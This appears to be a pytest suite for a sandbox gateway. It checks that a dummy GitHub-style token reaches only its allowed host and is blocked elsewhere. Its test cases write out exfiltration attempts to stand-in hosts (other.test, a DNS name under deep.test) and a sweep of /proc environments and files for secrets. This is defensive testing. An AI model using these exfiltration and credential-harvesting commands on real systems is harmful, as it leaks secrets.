"""Secrets never enter: the value arrives at its host, and nowhere else, and does not come back.

S1-S9 in real sandboxes, before servers that repeat what they are told. In each file of results the
value is looked for in every listed form; `control` shows that the search finds it.
"""

import base64
import json
import os
import signal
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.escape.echo_internet import ROOTS, EchoInternet
from tests.escape.egress_world import Report, World, policy
from tests.escape.worlds import new_world

pytestmark = pytest.mark.escape

VALUE = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
RULES = policy(
    "good.test:80,443,5000",
    "{host: other.test, ports: [443], inspect: true}",
    "relayed.test:443",
    "*.deep.test:443",
)
# What a program of these tests has at hand, besides egress_tools.
TOOLS = """
import http.client, json, os, ssl, subprocess, urllib.request
TOKEN = os.environ["TOKEN"]
BEARER = {"Authorization": "Bearer " + TOKEN}
def ask(host, path="/plain", method="GET", body=None, headers=BEARER):
    link = http.client.HTTPSConnection(host, timeout=60)
    try:
        link.request(method, path, body, headers)
        answer = link.getresponse()
        text = answer.read().decode("latin-1")
        return [answer.status, answer.reason, dict(answer.getheaders()), text]
    except (OSError, http.client.HTTPException) as error:
        return [0, type(error).__name__, {}, ""]
    finally:
        link.close()
def run(*words):
    done = subprocess.run(words, capture_output=True, text=True, timeout=60, cwd="/tmp")
    return done.stdout + done.stderr
"""


def bound(**keys: str) -> str:
    """Return the policy with one secret for good.test."""
    lines = ["secrets:", "  - id: forge", "    env: TOKEN", "    allowed_hosts: [good.test]"]
    words = (f"    {name.strip('_')}: {text}" for name, text in keys.items())
    return RULES + "\n".join([*lines, *words]) + "\n"


def forms() -> list[bytes]:
    """Return the value in each listed form that no mixing can vary."""
    value = VALUE.encode()
    encoded = [base64.b64encode(b"x" * skip + value)[2 * skip : 48] for skip in range(3)]
    percent = "".join(f"%{byte:02x}" for byte in value).encode()
    escaped = "".join(f"\\u{byte:04x}" for byte in value).encode()
    inner = escaped.replace(b"\\", b"%5C")
    return [
        value,
        value.hex().encode(),
        percent,
        escaped,
        inner,
        VALUE.encode("utf-16-le"),
        *encoded,
    ]


def is_in(text: bytes) -> bool:
    """Tell whether the value is there in any form."""
    return any(form.lower() in text.lower() for form in forms())


def control(world: World) -> int:
    """Return how often the value arrived outside."""
    return sum(bytes(each.received).count(VALUE.encode()) for each in world.reached())


def never_came_in(said: Report) -> bool:
    seen = json.dumps(said.result).encode() + json.dumps(said.result).encode().decode(
        "unicode_escape"
    ).encode("latin-1", "replace")
    return not is_in(seen + said.stderr.encode() + json.dumps(said.audit).encode())


@pytest.fixture(scope="module")
def shared_world(programs: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """One daemon whose operator has the value in a file, for good.test."""
    assert programs.is_dir()
    file = tmp_path_factory.mktemp("value") / "value"
    file.write_text(VALUE + "\n")
    secrets = f"secrets:\n  forge: {{file: {file}, hosts: [good.test]}}\n"
    with new_world(secrets, EchoInternet, ROOTS.certificate) as made:
        yield made


CLIENTS = {
    "curl": "run('curl', '-sS', '-H', 'Authorization: Bearer ' + TOKEN, 'https://good.test/plain')",
    "python3": "urllib.request.urlopen(urllib.request.Request('https://good.test/plain',"
    " headers=BEARER), timeout=60).read().decode()",
    "node": "run('node', '-e', 'fetch(\"https://good.test/plain\", {headers: {Authorization:"
    ' "Bearer " + process.env.TOKEN}}).then(r => r.text()).then(console.log)\')',
    "pip3": "run('python3', '-c', 'import os, pip._vendor.requests as r;"
    ' print(r.get("https://good.test/plain", timeout=60, headers={"Authorization":'
    ' "Bearer " + os.environ["TOKEN"]}).text)\')',
    "git": "run('git', '-c', 'http.extraHeader=Authorization: Bearer ' + TOKEN,"
    " 'ls-remote', 'https://good.test/plain')",
}


@pytest.mark.parametrize("client", CLIENTS)
def test_a_real_client_with_a_placeholder_is_served_as_with_the_value(
    world: World, client: str
) -> None:
    if not Path("/usr/bin", client).exists():
        pytest.skip(f"this machine lacks {client}")
    said = world.run(bound(), f"{TOOLS}\nresult = [TOKEN, {CLIENTS[client]}]")
    holder, text = said.result
    assert control(world) == 1, said.result
    assert holder.startswith("ghp_")
    assert client == "git" or f"Bearer {holder}" in text
    assert never_came_in(said)
    assert not said.denials()


PACKAGE_CLIENTS = {
    "npm": "run('npm', 'view', '--registry', 'https://good.test/',"
    " '--//good.test/:_authToken=' + TOKEN, 'pkg', 'name')",
    "pip3": "run('pip3', 'download', '--no-cache-dir', '-i',"
    " 'https://me:' + TOKEN + '@good.test/simple', 'pkg')",
}


@pytest.mark.parametrize("client", PACKAGE_CLIENTS)
def test_a_package_manager_reads_a_private_index_with_a_placeholder(
    world: World, client: str
) -> None:
    if not Path("/usr/bin", client).exists():
        pytest.skip(f"this machine lacks {client}")
    said = world.run(bound(), f"{TOOLS}\nresult = {PACKAGE_CLIENTS[client]}")
    basic = base64.b64encode(f"me:{VALUE}".encode())
    sent = f"Bearer {VALUE}".encode() if client == "npm" else b"Basic " + basic
    assert any(sent in bytes(each.received) for each in world.reached()), said.result
    assert never_came_in(said)
    assert not said.denials(), said.result


def test_what_servers_repeat_comes_back_as_the_placeholder(world: World) -> None:
    said = world.run(
        bound(),
        f"""{TOOLS}
paths = ["/plain", "/forms", "/split", "/fields", "/elsewhere"]
result = [TOKEN, [ask("good.test", path) for path in paths]]
""",
    )
    holder, answers = said.result
    assert control(world) == len(answers)
    assert [answer[0] for answer in answers] == [200, 200, 200, 200, 307]
    assert never_came_in(said)
    plain, forms_, split, fields, elsewhere = answers
    assert f"Bearer {holder}" in plain[3]
    assert forms_[3].count(holder) >= 5
    assert split[3] == f"token: {holder} end"
    assert fields[1] == holder
    assert fields[2]["X-Said"] == holder
    assert elsewhere[2]["Location"].endswith(f"?t={holder}")


@pytest.mark.parametrize("path", ["/zipped", "/part"])
def test_what_cannot_be_searched_does_not_come_in(world: World, path: str) -> None:
    said = world.run(bound(), f"{TOOLS}\nresult = ask('good.test', {path!r})")
    assert said.result[0] == 502
    assert control(world) == 1
    (denied,) = said.denials()
    assert denied["code"] == "protocol_not_allowed"
    text = bytes(world.reached()[0].received).lower()
    assert b"accept-encoding: identity\r\n" in text


ELSEWHERE = {
    "another host": "ask('other.test')",
    "a path": "ask('good.test', '/x/' + TOKEN)",
    "a query": "ask('good.test', '/x?t=' + TOKEN, headers={})",
    "another field": "ask('good.test', headers={'X-Other': TOKEN})",
    "the name of a field": "ask('good.test', headers={'X-' + TOKEN: '1'})",
    "a cookie": "ask('good.test', headers={'Cookie': 'a=' + TOKEN})",
    "Referer": "ask('good.test', headers={'Referer': 'https://good.test/' + TOKEN})",
    "the field for a proxy": "ask('good.test', headers={'Proxy-Authorization': TOKEN})",
    "a body": "ask('good.test', '/', 'POST', 'token=' + TOKEN, {})",
    "JSON": "ask('good.test', '/', 'POST', json.dumps([TOKEN]),"
    " {'Content-Type': 'application/json'})",
    "another Host": "ask('good.test', headers={'Host': 'other.test', **BEARER})",
    "plain HTTP": "dial('good.test', 80, ('GET / HTTP/1.1\\r\\nHost: good.test\\r\\n'"
    " 'Authorization: ' + TOKEN + '\\r\\n\\r\\n').encode())",
    "plain bytes": "talk('good.test', 5000, TOKEN[:9].encode(), TOKEN[9:].encode())",
    "a name": "dial(TOKEN.replace('_', '') + '.' + TOKEN + '.deep.test', 443)",
    "a redirect": "run('curl', '-sSL', '-H', 'X-Api-Key: ' + TOKEN, 'https://good.test/elsewhere')",
}


@pytest.mark.parametrize("where", ELSEWHERE)
def test_anywhere_else_a_placeholder_is_a_violation(world: World, where: str) -> None:
    said = world.run(
        bound(),
        f"""{TOOLS}
def attempt():
    try:
        return {ELSEWHERE[where]}
    except OSError as error:
        return type(error).__name__
result = [attempt(), ask("good.test")[0], TOKEN]
""",
    )
    assert said.denials("secret_scope_violation"), (said.result, said.audit)
    # The positive control: the same sandbox may still send it where it belongs.
    assert said.result[1] == 200
    legitimate = 2 if where == "a redirect" else 1
    assert control(world) == legitimate
    holder = said.result[2].encode()
    assert not any(holder in bytes(each.received) for each in world.reached())
    assert never_came_in(said)


def test_a_websocket_is_opened_with_a_placeholder_and_searched(world: World) -> None:
    said = world.run(
        bound(),
        f"""{TOOLS}
ASK = ("GET /ws HTTP/1.1\\r\\nHost: good.test\\r\\n"
       "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
       "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
       "Authorization: Bearer " + TOKEN + "\\r\\n\\r\\n").encode()
def frame(text):
    return bytes((0x81, 0x80 | len(text), 0, 0, 0, 0)) + text
def talk(text):
    plain = socket.create_connection(("good.test", 443), timeout=60)
    link = ssl.create_default_context().wrap_socket(plain, server_hostname="good.test")
    link.sendall(ASK)
    got = b""
    while TOKEN.encode() not in got and (data := link.recv(65536)):
        got += data
    link.sendall(frame(text))
    try:
        while not text.startswith(b"hello") and link.recv(65536):
            pass
    except OSError:
        pass
    link.close()
    return got.decode("latin-1")
result = [TOKEN, talk(b"hello there"), talk(b"my token is " + TOKEN.encode())]
""",
    )
    holder, first, second = said.result
    assert first.startswith("HTTP/1.1 101 Switching Protocols\r\n")
    assert first.endswith(f"you are {holder}")
    assert second.endswith(f"you are {holder}")
    assert control(world) == 2
    assert never_came_in(said)
    (denied,) = said.denials()
    assert denied["code"] == "secret_scope_violation"
    assert "in a message of a WebSocket" in denied["reason"]
    received = b"".join(bytes(each.received) for each in world.reached())
    assert holder.encode() not in received


def test_places_that_a_binding_names(world: World) -> None:
    said = world.run(
        bound(in_="[basic, form, json, query, cookie]"),
        f"""{TOOLS}
import base64
basic = base64.b64encode(("me:" + TOKEN).encode()).decode()
form = {{"Content-Type": "application/x-www-form-urlencoded"}}
result = [
    ask("good.test", headers={{"Authorization": "Basic " + basic}}),
    ask("good.test", "/q?t=" + TOKEN, headers={{}}),
    ask("good.test", headers={{"Cookie": "t=" + TOKEN}}),
    ask("good.test", "/f", "POST", "a=b&t=" + TOKEN, form),
    ask("good.test", "/j", "POST", json.dumps({{"t": TOKEN}}),
        {{"Content-Type": "application/json"}}),
]
""",
        "--secret",
        "forge@good.test",  # such places are for a person to allow
    )
    assert [answer[0] for answer in said.result] == [200] * 5
    assert control(world) == 4
    basic = base64.b64encode(f"me:{VALUE}".encode())
    assert any(basic in bytes(each.received) for each in world.reached())
    assert never_came_in(said)


def test_nothing_inside_shows_the_value_and_no_process_but_the_gateway_has_it(
    world: World,
) -> None:
    said = world.run(
        bound(),
        f"""{TOOLS}
import glob
ask("good.test")
seen = []
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/proc/self/mountinfo"]:
    try:
        seen.append(open(path, "rb").read().decode("latin-1"))
    except OSError:
        pass
seen += [run("sh", "-c", "cat /etc/ssl/certs/ca-certificates.crt; env; find / -xdev -newer"
             " /proc/1 -type f -size -64k -exec cat {{}} + 2>/dev/null | strings")]
result = [seen, sum("PRIVATE KEY" in text for text in seen)]
""",
    )
    assert said.result[1] == 0
    assert never_came_in(said)
    assert control(world) == 1


def test_a_policy_may_end_the_sandbox_for_it(world: World) -> None:
    running = world.start(
        bound(on_violation="terminate"),
        f"{TOOLS}\nask('other.test')\nimport time\ntime.sleep(600)\nresult = 'lived on'",
    )
    out, err = running.process.communicate(timeout=120)
    assert running.process.returncode != 0
    assert b"lived on" not in out
    assert b"secret_scope_violation" in err
    found = json.loads(running.result_file.read_text())
    ends = [line for line in world.audit_of(found["sandbox_id"]) if line.get("ends_sandbox")]
    assert [line["code"] for line in ends] == ["secret_scope_violation"]
    assert control(world) == 0


def test_when_its_time_is_over_requests_are_refused(world: World) -> None:
    said = world.run(
        bound(ttl="2s"),
        f"""{TOOLS}
import time
until = time.monotonic() + 120
first = ask("good.test")[0]
# 0: the connection was cut in the middle, because the time was over then.
while (answer := ask("good.test"))[0] in (200, 0) and time.monotonic() < until:
    time.sleep(0.2)
while (bare := ask("good.test", headers={{}})[0]) == 0 and time.monotonic() < until:
    time.sleep(0.2)
result = [first, answer[0], answer[1], bare]
""",
    )
    assert said.result[1:] == [403, said.result[2], 403]
    assert "secret_unavailable" in said.result[2]
    assert {event["code"] for event in said.denials()} == {"secret_unavailable"}


def test_a_lost_gateway_takes_the_value_with_it(world: World) -> None:
    running = world.start(
        bound(),
        f"{TOOLS}\nresult = [ask('good.test')[0]]\nawait_word()\nresult += ask('good.test')[:1]",
    )
    running.await_ready()
    os.kill(world.gateway_pid, signal.SIGKILL)
    said = world.finish(running, b"\n")
    assert said.result == [200, 0]
    assert control(world) == 1
    anew = world.run(bound(), f"{TOOLS}\nresult = ask('good.test')[0]")  # by a gateway of its own
    assert (anew.result, control(world)) == (200, 2)
